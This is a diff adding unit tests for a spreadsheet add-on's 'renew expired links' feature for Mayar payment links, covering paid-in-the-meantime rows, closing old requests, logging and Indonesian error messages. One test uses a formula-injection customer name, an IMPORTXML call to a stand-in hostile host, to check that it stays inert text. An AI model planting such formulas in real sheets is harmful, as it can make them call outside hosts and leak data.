@@ -91,3 +91,61 @@ describe('text copied into another sheet stays text', () => {
     expect(world.runtime.spreadsheet.formulas(summary).flat().filter(Boolean)).toEqual([]);
   });
 });
+
+describe('Renew expired links closes the old request first', () => {
+  it('a link paid after all becomes Paid with nothing new made; an unpaid one is closed in Mayar, then renewed, its old id kept', () => {
+    const world = withLinks([
+      ['Budi', '250000', '', '', 'Katering', ''],
+      ['=IMPORTXML("https://evil.example","//a")', '150000', '', '', 'Kue', ''],
+    ]);
+    world.runtime.spreadsheet.sheet(SHEET).write(3, 1, '\'=IMPORTXML("https://evil.example","//a")');
+    const [paidId, openId] = world.column('Payment ID').map(String);
+    // The sheet says Expired; Budi paid in Mayar in the meantime.
+    typeAt(world, 'Status', 1, 'Expired');
+    typeAt(world, 'Status', 2, 'Expired');
+    world.runtime.advance(60_000);
+    world.sim.pay(paidId ?? '');
+    const paidAt = world.runtime.clock.now();
+    world.runtime.advance(120_000);
+    const creates = world.createRequests();
+    world.runtime.ui.answers.push('YES');
+    world.run('renewExpiredLinks');
+    world.driveToEnd();
+
+    const [budi, other] = world.rows();
+    expect(budi?.['Status']).toBe('Paid');
+    expect(budi?.['Payment ID']).toBe(paidId);
+    expect(Math.abs(((budi?.['Paid At'] as Date | undefined)?.getTime() ?? 0) - paidAt)).toBeLessThan(60_000);
+    expect(world.sim.payment(paidId ?? '')?.status).toBe('paid');
+    // One new link, for the unpaid row only; its old request is closed in Mayar.
+    expect(world.createRequests()).toBe(creates + 1);
+    expect(world.sim.payment(openId ?? '')?.status).toBe('closed');
+    expect(other?.['Payment ID']).not.toBe(openId);
+    expect(other?.['Status']).toBe('Unpaid');
+    const closes = world.sim.requests.filter((r) => r.path.endsWith('/close')).map((r) => r.path);
+    expect(closes).toEqual([`/hl/v2/payments/${paidId}/close`, `/hl/v2/payments/${openId}/close`]);
+    // The old id stays known: in the Mayar Log (its customer name as text) and the renewed record.
+    const log = world.rows('Mayar Log').filter((r) => r['Action'] === 'renew expired link');
+    expect(log.map((r) => [r['Payment ID'], r['Outcome']])).toEqual([
+      [paidId, 'Paid'],
+      [openId, expect.stringContaining('Replaced') as unknown],
+    ]);
+    expect(log[1]?.['Customer']).toBe('=IMPORTXML("https://evil.example","//a")');
+    expect(world.runtime.spreadsheet.formulas('Mayar Log').flat().filter(Boolean)).toEqual([]);
+    const record = JSON.parse(world.runtime.properties.document.get('mayar.renewed') ?? '[]') as { o: string }[];
+    expect(record.map((r) => r.o)).toEqual([openId]);
+  });
+
+  it('a close Mayar could not answer renews nothing and says so in the row, in Indonesian too', () => {
+    const world = withLinks([['Budi', '250000', '', '', 'Katering', '']]);
+    world.run('saveSettings', [{ language: 'id' }]);
+    typeAt(world, 'Status', 1, 'Kedaluwarsa');
+    world.sim.injectFault({ type: 'http-500', match: (r) => r.url.endsWith('/close') });
+    const creates = world.createRequests();
+    world.run('renewExpiredLinks');
+    expect(world.createRequests()).toBe(creates);
+    expect(world.column('Error')[0]).toContain('Link lama tidak bisa ditutup di Mayar');
+    expect(world.column('Status')[0]).toBe('Kedaluwarsa');
+    expect(world.alerts().at(-1)).toContain('Tidak ada link baru yang dibuat');
+  });
+});
